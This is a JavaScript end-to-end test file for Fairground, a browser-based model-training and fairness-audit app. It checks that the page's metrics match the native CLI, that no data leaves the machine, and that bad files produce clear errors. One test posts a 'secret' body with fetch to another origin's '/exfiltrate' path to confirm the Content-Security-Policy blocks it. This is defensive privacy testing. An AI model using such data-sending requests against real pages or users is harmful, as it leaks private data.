// The walking skeleton, end to end: open the built page, upload a CSV through the file input,
// choose the roles, train, check the numbers against the native CLI on the same file, and prove
// that nothing leaves the machine (with a canary that shows the recorder works).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { App } from './lib/app.mjs';
import { ROOT, DIST, serveStatic, recordingServer, launch, recordRequests, privacyViolations, fireCanary, watchErrors, screenshot } from './lib/harness.mjs';

const fixture = (name) => join(ROOT, 'tests/e2e/fixtures', name);
const CLI = process.env.FAIRGROUND_CLI || join(ROOT, 'target/debug/fairground');
let server, other, context;

before(async () => {
  server = await serveStatic();
  other = await recordingServer();
  context = await launch();
});
after(async () => {
  await context?.close();
  server?.close();
  await other?.close();
});

test('upload, train and audit in the page, with no request leaving the machine', async () => {
  const recorder = recordRequests(context);
  const page = await context.newPage();
  const errors = watchErrors(page);
  const app = new App(page);
  const appOrigin = new URL(server.url).origin;

  await app.open(server.url);
  // Let the worker start and load its module before marking the end of the initial load.
  await page.waitForFunction(() => performance.getEntriesByType('resource').filter((e) => e.name.endsWith('.wasm')).length >= 1);
  await page.waitForTimeout(300);
  const afterLoad = recorder.mark();

  await app.uploadAndWait(fixture('german_sex_age.csv'));
  assert.match(await app.text('dataset-summary'), /1000 rows × 23 columns/);
  await app.chooseRoles({ target: 'credit', positive: '1', sensitive: 'sex', model: 'logistic' });
  await app.train();
  assert.equal(await app.errorText(), null);

  // The page's numbers equal the native core's on the same file (same split, same model).
  const cli = JSON.parse(execFileSync(CLI, ['train', '--csv', fixture('german_sex_age.csv'), '--target', 'credit',
    '--positive', '1', '--sensitive', 'sex', '--model', 'logistic', '--json'], { encoding: 'utf8' }));
  assert.equal(await app.text('test-accuracy'), cli.test_accuracy.toFixed(3));
  assert.equal(await app.text('test-auc'), cli.test_auc.toFixed(3));
  const rows = await page.locator('[data-testid="group-row"]').count();
  assert.equal(rows, 2);
  const rates = await page.locator('[data-testid="selection-rate"]').allTextContents();
  for (const r of rates) assert.ok(Number(r) >= 0 && Number(r) <= 1, r);
  // The chart was drawn at the device's pixel ratio (canvas bitmap = CSS box × dpr).
  const chart = await page.locator('[data-testid="selection-chart"]').evaluate((c) => ({ w: c.width, css: c.getBoundingClientRect().width, dpr: devicePixelRatio }));
  assert.ok(Math.abs(chart.w - Math.round(chart.css * chart.dpr)) <= 1, JSON.stringify(chart));
  await screenshot(page, 'foundation-trained');

  // While uploading and training, nothing was requested but the page's own code: the steps'
  // chunks (src/ui/chunks.rs), fetched by fixed file name once a dataset is in. Each is a GET of
  // a file of the build, with no query string and no body, so nothing about the data can ride on it.
  const during = recorder.since(afterLoad).filter((r) => !r.url.includes('canary'));
  const notCode = during.filter((r) => {
    const url = new URL(r.url);
    const name = url.pathname.slice(1);
    return r.method !== 'GET' || r.body !== null || url.origin !== appOrigin || url.search !== ''
      || !/^(split_[a-z_]+|chunk_[0-9]+)\.wasm$/.test(name) || !existsSync(join(DIST, name));
  });
  assert.deepEqual(notCode, [], `requests during upload/training: ${JSON.stringify(during)}`);
  // From the start: only same-origin GETs without a body.
  assert.deepEqual(privacyViolations(recorder.log, appOrigin), []);

  // The recorder works: a deliberate cross-origin POST with a body is caught…
  const canary = await fireCanary(context, other.origin);
  const caught = recorder.log.find((r) => r.url === canary);
  assert.ok(caught, 'the canary request was recorded');
  assert.equal(caught.method, 'POST');
  assert.equal(caught.body, 'canary');
  const violations = privacyViolations(recorder.log, appOrigin);
  assert.ok(violations.length >= 1 && violations.every((r) => r.url.includes('canary')), `only the canary violates: ${JSON.stringify(violations)}`);
  assert.ok(other.received.some((r) => r.url.startsWith('/canary')), 'the other origin really got the canary');
  assert.deepEqual(errors, []);
  await page.close();
});

test('the Content-Security-Policy blocks a request to another origin', async () => {
  const page = await context.newPage();
  const app = new App(page);
  await app.open(server.url);
  const before = other.received.length;
  const outcome = await page.evaluate(async (origin) => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    let fetched = true;
    try { await fetch(`${origin}/exfiltrate`, { method: 'POST', body: 'secret', mode: 'no-cors' }); } catch { fetched = false; }
    await new Promise((r) => setTimeout(r, 200));
    return { fetched, violations };
  }, other.origin);
  assert.equal(outcome.fetched, false);
  assert.ok(outcome.violations.includes('connect-src'), JSON.stringify(outcome));
  assert.equal(other.received.length, before, 'the other origin received nothing');
  await page.close();
});

test('bad files give a clear message and the page stays usable', async () => {
  const page = await context.newPage();
  const errors = watchErrors(page);
  const app = new App(page);
  await app.open(server.url);
  const cases = [
    ['empty.csv', /empty/i],
    ['header_only.csv', /header|no data rows|only/i],
    ['not_a_csv.bin', /binary|not.*csv|text/i],
  ];
  for (const [file, pattern] of cases) {
    await app.uploadAndWait(fixture(file));
    const message = await app.errorText();
    assert.ok(message, `${file}: an error is shown`);
    assert.match(message, pattern, `${file}: ${message}`);
  }
  for (const [file, roles, pattern] of [
    ['one_class.csv', { target: 'approved', positive: 'yes', sensitive: 'sex' }, /only one class/i],
    ['one_group.csv', { target: 'approved', positive: 'yes', sensitive: 'sex' }, /single value/i],
  ]) {
    await app.uploadAndWait(fixture(file));
    await app.chooseRoles(roles);
    await app.train();
    const message = await app.errorText();
    assert.match(message ?? '', pattern, `${file}: ${message}`);
  }
  await screenshot(page, 'foundation-bad-input');
  // Still usable: the bundled dataset loads and trains after all that.
  await app.loadBundled('adult');
  await app.train();
  assert.equal(await app.errorText(), null);
  assert.match(await app.text('test-accuracy'), /^0\.8\d\d$/);
  await screenshot(page, 'foundation-adult');
  assert.deepEqual(errors.filter((e) => !e.includes('Content Security Policy')), []);
  await page.close();
});
